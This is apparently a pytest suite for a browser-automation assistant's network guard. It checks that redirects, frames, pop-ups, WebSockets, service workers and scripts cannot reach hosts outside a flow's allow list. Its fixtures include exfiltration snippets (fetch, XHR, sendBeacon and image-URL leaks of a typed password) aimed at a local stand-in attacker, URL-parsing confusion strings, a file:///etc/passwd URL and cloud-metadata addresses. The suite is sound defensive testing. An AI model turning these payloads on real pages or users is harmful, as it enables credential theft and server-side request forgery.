"""Hosts are enforced by the browser, before the request leaves.

Every test runs the real `assistant submit` against an attack site: the
"provider" on 127.0.0.1 and the "attacker" on 127.0.0.2 (plus a third server
on another port of 127.0.0.1). The flow allows only 127.0.0.1 and the run
gets --base-url http://127.0.0.1:P1, so the attacker and the other port are
off limits; each test asserts they received nothing at all.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from attack_site import FORM, AttackSite
from helpers import run_cli, submissions, write_case

from assistant.language import urls

HOSTS_LINE = 4
FLOW = """\
id: demo
name: Attack test
homepage: "{{{{ base_url }}}}/"
allowed_hosts: [127.0.0.1]
{extra}channel: web_form
categories:
  payment: {{ label: Payments, deadline: {{ hours: 24 }} }}
steps:
{steps}success: {{ text: "registered" }}
confirmation: {{ selector: "#ticket" }}
"""

FILL_AND_SEND = """\
  - fill: { selector: "#name", value: "Anna" }
  - fill: { selector: "#pw", value: "s3cret-pw" }
  - submit: "#send"
"""


@pytest.fixture
def other_port():
    with AttackSite("127.0.0.1") as site:
        yield site


def run_flow(
    tmp_path: Path, provider: AttackSite, steps: str, *, extra: str = "", args: tuple = (), timeout: float = 120
):
    flows = tmp_path / "flows"
    flows.mkdir(exist_ok=True)
    (flows / "demo.yaml").write_text(FLOW.format(steps=steps, extra=extra), encoding="utf-8")
    return run_cli(
        "submit",
        "demo",
        "--case",
        str(write_case(tmp_path)),
        "--base-url",
        provider.url,
        "--yes",
        *args,
        home=tmp_path / "home",
        env={"ASSISTANT_FLOWS": str(flows)},
        timeout=timeout,
    )


def page_with(script_or_html: str) -> str:
    return FORM + "\n" + script_or_html


def assert_blocked(done, attacker: AttackSite, provider: AttackSite, words: str):
    assert attacker.log == []
    assert done.returncode == 1, done.stderr
    assert (
        f"blocked: the page tried {words} 127.0.0.2:{attacker.port} (not in allowed_hosts of flow demo, "
        f"line {HOSTS_LINE})" in done.stderr
    )
    assert "Traceback" not in done.stderr
    assert [h.path for h in provider.log if h.method == "POST"] == []  # the form was never sent
    assert "nothing was submitted" in done.stderr


START = '  - goto: "{{ base_url }}/start"\n'


# ----------------------------------------------------------- navigations


def test_http_redirect_to_another_host_is_blocked(tmp_path, provider, attacker):
    provider.pages["/start"] = (302, {"Location": f"{attacker.url}/landing"}, "")
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to open")
    assert "step 1 (goto" in done.stderr and "ERR_BLOCKED_BY_CLIENT" not in done.stderr


def test_link_click_to_another_host_is_blocked(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(f'<a id="away" href="{attacker.url}/landing">Help</a>')
    done = run_flow(tmp_path, provider, START + '  - click: "#away"\n' + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to open")
    assert "step 2 (click selector='#away')" in done.stderr


def test_meta_refresh_to_another_host_is_blocked(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(f'<meta http-equiv="refresh" content="0;url={attacker.url}/landing">')
    done = run_flow(tmp_path, provider, START + '  - wait_for: { selector: "#never", timeout: 3 }\n' + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to open")


def test_script_navigation_to_another_host_is_blocked(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(f"<script>setTimeout(() => location = '{attacker.url}/landing', 50)</script>")
    done = run_flow(tmp_path, provider, START + '  - wait_for: { selector: "#never", timeout: 3 }\n' + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to open")


def test_a_page_that_moves_on_during_the_step_screenshot_does_not_stall_the_run(tmp_path, provider):
    # Chromium never answers a screenshot asked of a document that a navigation then replaces.
    # Here the page, once loaded, goes on to the form and keeps its renderer busy meanwhile, so the
    # screenshot after `goto` is always asked of /start and the form always arrives before it is taken.
    provider.pages["/start"] = (
        "<!doctype html><title>Start</title><p>One moment</p><script>addEventListener('load', () => "
        "setTimeout(() => { location = '/form'; const t = Date.now(); while (Date.now() - t < 3000); }, 0))</script>"
    )
    done = run_flow(tmp_path, provider, START + '  - wait_for: { selector: "#name" }\n' + FILL_AND_SEND, timeout=60)
    assert done.returncode == 0, done.stderr
    assert [h.path for h in provider.log if h.method == "POST"] == ["/done"]
    assert [s["status"] for s in submissions(tmp_path / "home")] == ["confirmed"]


def test_form_posting_to_another_host_never_sends_the_fields(tmp_path, provider, attacker):
    provider.pages["/start"] = FORM.replace('action="/done"', f'action="{attacker.url}/collect"')
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert attacker.log == []  # neither name= nor pw= left the browser
    assert done.returncode == 1
    assert (
        f"blocked: the page tried to send a form to 127.0.0.2:{attacker.port} (not in allowed_hosts of flow "
        f"demo, line {HOSTS_LINE})"
    ) in done.stderr
    # The click did happen, but its only request was stopped: said truthfully, and journalled as not filed.
    assert "The click was made, but nothing left the browser" in done.stderr
    assert "so nothing was filed" in done.stderr and "pending" not in done.stderr
    assert [s["status"] for s in submissions(tmp_path / "home")] == ["not_filed"]


def test_form_redirected_with_its_body_to_another_host_never_arrives(tmp_path, provider, attacker):
    # 307 keeps the method and the body: the hop Playwright's routes never see.
    provider.pages["/done"] = (307, {"Location": f"{attacker.url}/collect"}, "")
    provider.pages["/start"] = FORM
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert attacker.log == []
    assert [h.path for h in provider.log if h.method == "POST"] == ["/done"]
    assert done.returncode == 1
    assert f"blocked: the page tried to send a form to 127.0.0.2:{attacker.port} (not in allowed_hosts" in done.stderr
    assert "The submit button had already been clicked" in done.stderr


def test_another_port_of_the_allowed_host_is_not_allowed(tmp_path, provider, attacker, other_port):
    # Redirected there by the page:
    provider.pages["/start"] = (302, {"Location": f"{other_port.url}/landing"}, "")
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert other_port.log == [] and done.returncode == 1
    assert f"blocked: the page tried to open 127.0.0.1:{other_port.port} (not in allowed_hosts" in done.stderr
    # Or named by the flow: refused when the flow is read, before the browser starts.
    done = run_flow(tmp_path, provider, f'  - goto: "{other_port.url}/form"\n' + FILL_AND_SEND)
    assert other_port.log == [] and provider.paths() == ["/start"]
    assert done.returncode == 2
    assert (
        f"demo.yaml:9:5: steps[0].goto: 127.0.0.1:{other_port.port} is not in allowed_hosts (127.0.0.1)" in done.stderr
    )


def test_goto_built_from_a_page_value_is_refused_at_run_time(tmp_path, provider, attacker):
    # Known only once the page is read, so checked when the step runs, not when the flow is read.
    provider.pages["/start"] = page_with(f'<a id="next" href="#">{attacker.url}/landing</a>')
    steps = START + '  - extract: { var: next, selector: "#next" }\n  - goto: "{{ vars.next }}"\n' + FILL_AND_SEND
    done = run_flow(tmp_path, provider, steps)
    assert attacker.log == [] and provider.paths() == ["/start"]
    assert done.returncode == 1, done.stderr
    assert f"refused: 127.0.0.2:{attacker.port} is not in allowed_hosts" in done.stderr
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize(
    "template, why",
    [
        ("http://127.0.0.2:{port}\\\\@127.0.0.1/landing", "has a backslash"),
        ("http://127.0.0.1@127.0.0.2:{port}/landing", "user name or password before the host"),
        ("http://127.0.0.1:{p1}@127.0.0.2:{port}/landing", "user name or password before the host"),
        ("http://127.0.0.1:{p1}/land ing", "space or control character"),
    ],
)
def test_urls_browsers_and_python_read_differently_are_refused(tmp_path, provider, attacker, template, why):
    url = template.format(port=attacker.port, p1=provider.port)
    done = run_flow(tmp_path, provider, f'  - goto: "{url}"\n' + FILL_AND_SEND)
    assert attacker.log == [] and provider.log == []
    assert done.returncode == 2, done.stderr
    line = done.stderr.strip().splitlines()[-1]
    assert f"{tmp_path / 'flows' / 'demo.yaml'}:9:5: steps[0].goto: the URL" in line and why in line


@pytest.mark.parametrize(
    "url, scheme",
    [
        ("file:///etc/passwd", "file"),
        ("javascript:fetch('http://127.0.0.2/')", "javascript"),
        ("data:text/html,<script>fetch('http://127.0.0.2:{port}/leak')</script>", "data"),
        ("blob:http://127.0.0.1/x", "blob"),
    ],
)
def test_non_http_gotos_are_refused_naming_the_scheme(tmp_path, provider, attacker, url, scheme):
    done = run_flow(tmp_path, provider, f'  - goto: "{url.format(port=attacker.port)}"\n' + FILL_AND_SEND)
    assert attacker.log == [] and provider.log == []
    assert done.returncode == 2
    assert f"steps[0].goto: a {scheme}: URL is not opened (a flow opens only http:// and https:// pages)" in done.stderr
    assert "None is not in allowed_hosts" not in done.stderr


def test_login_check_url_on_another_host_is_refused(tmp_path, provider, attacker):
    home = tmp_path / "home"
    (home / "sessions").mkdir(parents=True)
    (home / "sessions" / "demo.json").write_text(json.dumps({"saved_at": "x", "state": {"cookies": [], "origins": []}}))
    login = (
        f'requires_login: true\nlogin:\n  url: "{{{{ base_url }}}}/login"\n'
        f'  check_url: "{attacker.url}/check"\n  logged_in: "#me"\n'
    )
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND, extra=login)
    assert attacker.log == [] and provider.log == []
    assert done.returncode == 2
    assert f"demo.yaml:8:3: login.check_url: 127.0.0.2:{attacker.port} is not in allowed_hosts" in done.stderr
    # On the allowed host, but redirecting away: blocked in the browser.
    provider.pages["/check"] = (302, {"Location": f"{attacker.url}/check"}, "")
    done = run_flow(
        tmp_path, provider, START + FILL_AND_SEND, extra=login.replace(f"{attacker.url}/check", "{{ base_url }}/check")
    )
    assert attacker.log == [] and provider.paths() == ["/check"]
    assert done.returncode == 1
    assert f"blocked: the page tried to open 127.0.0.2:{attacker.port} (not in allowed_hosts" in done.stderr


def test_assistant_login_refuses_a_login_url_on_another_host(tmp_path, provider, attacker):
    flows = tmp_path / "flows"
    flows.mkdir()
    flow = flows / "demo.yaml"
    flow.write_text(
        FLOW.format(
            steps=START + FILL_AND_SEND,
            extra=(
                f'requires_login: true\nlogin:\n  url: "http://127.0.0.1@127.0.0.2:{attacker.port}/login"\n'
                '  logged_in: "#me"\n'
            ),
        ),
        encoding="utf-8",
    )
    done = run_cli("login", str(flow), "--base-url", provider.url, home=tmp_path / "home")
    assert attacker.log == [] and provider.log == []
    assert done.returncode == 2
    assert f"{flow}:7:3: login.url: the URL" in done.stderr and "user name or password" in done.stderr


# ------------------------------------------------------ frames and pop-ups


def test_iframe_from_another_host_is_blocked(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(f'<iframe src="{attacker.url}/frame"></iframe>')
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to load a frame from")


def test_popup_to_another_host_is_blocked(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(
        f"""<button id="pop" type="button" onclick="window.open('{attacker.url}/pop')">Chat</button>"""
    )
    done = run_flow(tmp_path, provider, START + '  - click: "#pop"\n' + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to open a pop-up at")


def test_data_frame_script_cannot_reach_another_host(tmp_path, provider, attacker):
    leak = f"fetch('{attacker.url}/leak', {{method: 'POST', body: 'pw'}})"
    provider.pages["/start"] = page_with(f'<iframe src="data:text/html,<script>{leak}</script>"></iframe>')
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to send data to")


# ------------------------------------------------------- scripts sending data


@pytest.mark.parametrize(
    "script",
    [
        "fetch('{a}/leak', {{method: 'POST', body: 'pw=s3cret'}})",
        "fetch('{a}/leak?pw=s3cret')",
        "const x = new XMLHttpRequest(); x.open('POST', '{a}/leak'); x.send('pw=s3cret')",
        "navigator.sendBeacon('{a}/beacon', 'pw=s3cret')",
    ],
)
def test_scripts_cannot_send_data_to_another_host(tmp_path, provider, attacker, script):
    provider.pages["/start"] = page_with(f"<script>{script.format(a=attacker.url)}</script>")
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to send data to")


def test_websocket_to_another_host_is_blocked(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(f"<script>new WebSocket('ws://127.0.0.2:{attacker.port}/ws')</script>")
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert_blocked(done, attacker, provider, "to open a WebSocket to")


def test_websocket_to_the_allowed_host_still_opens(tmp_path, provider, attacker):
    provider.pages["/start"] = FORM.replace('<button id="send"', '<button id="send" hidden') + (
        f"<script>const s = new WebSocket('ws://127.0.0.1:{provider.port}/live');"
        "s.onopen = () => document.querySelector('#send').hidden = false;</script>"
    )
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert done.returncode == 0, done.stderr
    assert "/live" in provider.paths() and attacker.log == []


def test_service_workers_are_not_registered(tmp_path, provider, attacker):
    # A service worker's own requests would bypass the page's routes: none may start.
    provider.pages["/start"] = page_with("<script>navigator.serviceWorker.register('/sw.js')</script>")
    provider.pages["/sw.js"] = (
        200,
        {"Content-Type": "text/javascript"},
        f"fetch('{attacker.url}/from-worker', {{method: 'POST', body: 'x'}})",
    )
    done = run_flow(tmp_path, provider, START + '  - wait_for: { selector: "#never", state: hidden }\n' + FILL_AND_SEND)
    assert attacker.log == []
    assert "/sw.js" not in provider.paths()
    assert done.returncode == 0, done.stderr


# ------------------------------------------------------------ subresources


def test_third_party_image_is_blocked_and_noted_and_the_run_goes_on(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(
        f'<img src="{attacker.url}/pixel.png?u=anna"><img src="{attacker.url}/other.png">'
    )
    out = tmp_path / "evidence"
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND, args=("--out", str(out)))
    assert attacker.log == []
    assert done.returncode == 0, done.stderr
    assert provider.log[-1].method == "POST" and b"pw=s3cret-pw" in provider.log[-1].body
    note = f"note: blocked image from 127.0.0.2:{attacker.port} (not in allowed_hosts or allowed_resources"
    assert done.stderr.count(note) == 1  # once per host
    rows = [json.loads(line) for line in (out / "logs" / "blocked.jsonl").read_text().splitlines()]
    rows = [r for r in rows if r["host"].startswith("127.")]  # not Chromium's own background calls
    assert [r["url"] for r in rows] == [attacker.url, attacker.url]  # no path or query: they may carry data
    assert all(r["resource_type"] == "image" and not r["stopped"] for r in rows)
    manifest = json.loads((out / "manifest.json").read_text())
    assert "logs/blocked.jsonl" in {f["path"] for f in manifest["files"]}
    # Behind the guard's proxy the evidence still names the provider's own address.
    shots = [
        f["meta"]
        for f in manifest["files"]
        if f["path"].startswith("screenshots/") and "server_port" in (f.get("meta") or {})
    ]
    assert shots and all(m["server_port"] == provider.port and m["server_ip"] == "127.0.0.1" for m in shots)


def test_open_redirect_on_the_allowed_host_does_not_carry_data_away(tmp_path, provider, attacker):
    # An image on the provider that bounces to another host: the hop is refused by the guard's proxy.
    provider.pages["/bounce"] = (302, {"Location": f"{attacker.url}/pixel.png?pw=s3cret"}, "")
    provider.pages["/start"] = page_with('<img src="/bounce">')
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
    assert attacker.log == [] and "/bounce" in provider.paths()
    assert done.returncode == 0, done.stderr
    assert f"note: blocked image from 127.0.0.2:{attacker.port}" in done.stderr
    assert "s3cret" not in done.stderr


def test_image_from_allowed_resources_loads(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(f'<img src="{attacker.url}/logo.png">')
    attacker.pages["/logo.png"] = (200, {"Content-Type": "image/svg+xml"}, "<svg xmlns='http://www.w3.org/2000/svg'/>")
    done = run_flow(
        tmp_path, provider, START + FILL_AND_SEND, extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n'
    )
    assert done.returncode == 0, done.stderr
    assert [(h.method, h.path) for h in attacker.log] == [("GET", "/logo.png")]


def test_allowed_resources_take_no_data(tmp_path, provider, attacker):
    provider.pages["/start"] = page_with(
        f"<script>fetch('{attacker.url}/collect', {{method: 'POST', body: 'x'}})</script>"
    )
    done = run_flow(
        tmp_path, provider, START + FILL_AND_SEND, extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n'
    )
    assert_blocked(done, attacker, provider, "to send data to")


def test_allowed_resources_take_no_picture_named_after_a_typed_password(tmp_path, provider, attacker):
    """A resource host takes pictures; one whose address carries the password is data."""
    provider.pages["/start"] = page_with(
        "<script>document.getElementById('pw').addEventListener('input', (e) => {"
        f" new Image().src = '{attacker.url}/p.png?v=' + encodeURIComponent(e.target.value); }});</script>"
    )
    done = run_flow(
        tmp_path, provider, START + FILL_AND_SEND, extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n'
    )
    assert_blocked(done, attacker, provider, "to send data to")
    assert "s3cret-pw" not in done.stderr


def test_the_demo_still_confirms_with_the_guard_on(portal, tmp_path):
    out = tmp_path / "evidence"
    done = run_cli(
        "submit",
        "demo",
        "--case",
        str(write_case(tmp_path)),
        "--base-url",
        portal.url,
        "--yes",
        "--json",
        "--out",
        str(out),
        home=tmp_path / "home",
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["confirmation"] == portal.received[0].number
    assert "blocked" not in done.stderr
    blocked = out / "logs" / "blocked.jsonl"
    rows = [json.loads(line) for line in blocked.read_text().splitlines()] if blocked.exists() else []
    assert [r for r in rows if r["kind"] != "connection"] == []  # only Chromium's own background calls


# -------------------------------------------------------------- entries


def test_bad_allowed_hosts_entries_are_errors_naming_the_line(tmp_path, provider):
    extra = 'allowed_resources:\n  - "https://0x7f.1"\n  - "ftp://cdn.example"\n  - "cdn.example/path"\n'
    done = run_flow(tmp_path, provider, START + FILL_AND_SEND, extra=extra)
    assert done.returncode == 2 and provider.log == []
    flow = tmp_path / "flows" / "demo.yaml"
    assert (
        f"{flow}:6:5: allowed_resources[0]: 'https://0x7f.1' has a host '0x7f.1' that a browser would read "
        "as a different IP address" in done.stderr
    )
    assert f"{flow}:7:5: allowed_resources[1]: 'ftp://cdn.example': only http:// and https://" in done.stderr
    assert f"{flow}:8:5: allowed_resources[2]: 'cdn.example/path' is not a host" in done.stderr


def test_origin_entries_match_scheme_host_and_port():
    policy = urls.Policy(
        "x",
        1,
        [urls.parse_entry(e) for e in ("example.com", "*.shop.example", "api.example:8443", "https://pay.example")],
    )
    allowed = [
        "http://example.com/",
        "https://example.com/a",
        "https://shop.example/",
        "https://a.b.shop.example/",
        "https://api.example:8443/",
        "http://api.example:8443/",
        "https://pay.example:443/x",
    ]
    refused = [
        "http://example.com:8080/",
        "https://evil-example.com/",
        "https://shop.example.evil/",
        "https://api.example/",
        "http://pay.example/",
        "https://pay.example:8443/",
        "http://0x7f.1/",
        "http://2130706433/",
        "http://example.com%2e/",
        "http://EXAMPLE.com\\@evil/",
    ]
    for url in allowed:
        policy.check(url)
    for url in refused:
        with pytest.raises(urls.UnsafeURL):
            policy.check(url)
    for entry in (
        "*.com",
        "*",
        "ex*ample.com",
        "user@example.com",
        "example.com/path",
        "ftp://example.com",
        "example.com:0",
        "example.com:99999",
        "0x7f.1",
        "exa mple.com",
    ):
        with pytest.raises(ValueError):
            urls.parse_entry(entry)
    assert urls.origin_of("HTTP://Example.COM:8080/x?y") == "http://example.com:8080"


def test_only_requests_to_allowed_origins_skip_the_route_in_javascript_and_python(page):
    """The route sees every request except those it would let through anyway: the pattern that
    spares them is matched by Playwright's driver (JavaScript) and by Python, on the browser's
    own spelling of the URL, and must never spare a request to anywhere else."""
    from urllib.parse import urlsplit

    from assistant.run.netguard import _endpoint, outside

    policy = urls.Policy(
        "x",
        1,
        [
            urls.parse_entry(e)
            for e in (
                "127.0.0.1",
                "http://127.0.0.1:38201",
                "*.shop.example",
                "api.example:8443",
                "https://pay.example",
            )
        ],
    )
    pattern = outside(policy)
    written = [
        "http://127.0.0.1/",
        "http://127.0.0.1:38201/form?a=1#top",
        "https://127.0.0.1",
        "https://a.b.shop.example/x",
        "http://shop.example",
        "https://api.example:8443/",
        "https://pay.example:443/x",
        "http://127.0.0.1:382010/",
        "http://127.0.0.1:3820/",
        "http://127.0.0.1:38201@evil.example/",
        "http://user:pw@127.0.0.1/",
        "http://127.0.0.1.evil.example/",
        "http://127.0.0.2/",
        "https://evilshop.example/",
        "https://shop.example.evil/",
        "https://api.example/",
        "http://pay.example/",
        "http://LOCALHOST:38201/",
        "http://127.0.0.1:80/",
        "https://pay.example:8443/",
        "ws://127.0.0.1/",
        "file:///etc/passwd",
        "data:text/html,hi",
        "blob:http://127.0.0.1/1",
        "about:blank",
    ]
    # The browser's spelling: lower case, no default port, userinfo kept.
    seen = page.evaluate("urls => urls.map(u => { try { return new URL(u).href } catch { return u } })", written)
    in_js = page.evaluate(
        "([source, urls]) => urls.map(u => new RegExp(source).test(u))", [pattern.pattern, written + seen]
    )
    spared = []
    for url, routed in zip(written + seen, in_js, strict=True):
        assert routed == bool(pattern.search(url)), url  # the driver and Python agree
        if not routed:
            spared.append(url)
            assert urlsplit(url).scheme in ("http", "https") and policy.allows(*_endpoint(url)), url
            assert "@" not in url, url
    assert {u.rstrip("/") for u in spared} == {
        "http://127.0.0.1",
        "http://127.0.0.1:38201/form?a=1#top",
        "https://127.0.0.1",
        "https://a.b.shop.example/x",
        "http://shop.example",
        "https://api.example:8443",
        "https://pay.example/x",  # written with :443, which the browser drops
    }


def test_the_gate_connects_to_no_link_local_unspecified_or_multicast_address():
    """Not even for a page opened by address (Policy.open), nor by a name resolving to one: a
    cloud's metadata service answers at 169.254.169.254 to whoever asks from the machine."""
    import socket
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from assistant.language.urls import Policy
    from assistant.run.netguard import Guard

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *args):
            pass

    def through(gate_url: str, target: str) -> bytes:
        port = int(gate_url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port), timeout=30) as proxy:
            proxy.sendall(f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            answer = b""
            while chunk := proxy.recv(65536):
                answer += chunk
        return answer

    with ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server, Guard(Policy.open("test")) as guard:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            guard.start_gate()
            assert guard.gate is not None
            ok = through(guard.gate.url, f"http://127.0.0.1:{server.server_address[1]}/")
            assert ok.startswith(b"HTTP/1.0 200") or ok.startswith(b"HTTP/1.1 200"), ok[:80]
            for target in (
                "http://169.254.169.254/latest/meta-data/",
                "http://[::ffff:169.254.169.254]/",
                f"http://0.0.0.0:{server.server_address[1]}/",
                "http://[fe80::1]/",
                "http://224.0.0.1/",
            ):
                refused = through(guard.gate.url, target)
                assert refused.startswith(b"HTTP/1.1 502"), (target, refused[:80])
                assert b"link-local, unspecified or multicast" in refused, (target, refused[:200])
        finally:
            server.shutdown()


def test_a_flow_cannot_allow_a_link_local_unspecified_or_multicast_address():
    from assistant.language.urls import parse_entry

    for entry in (
        "169.254.169.254",
        "https://169.254.1.1:8443",
        "0.0.0.0",
        "[::]",
        "[::ffff:169.254.169.254]",
        "[fe80::1]",
    ):
        with pytest.raises(ValueError, match="is no provider's"):
            parse_entry(entry)
    for entry in ("127.0.0.1:8080", "10.0.0.1", "support.example.ru", "*.example.ru"):
        assert parse_entry(entry).host
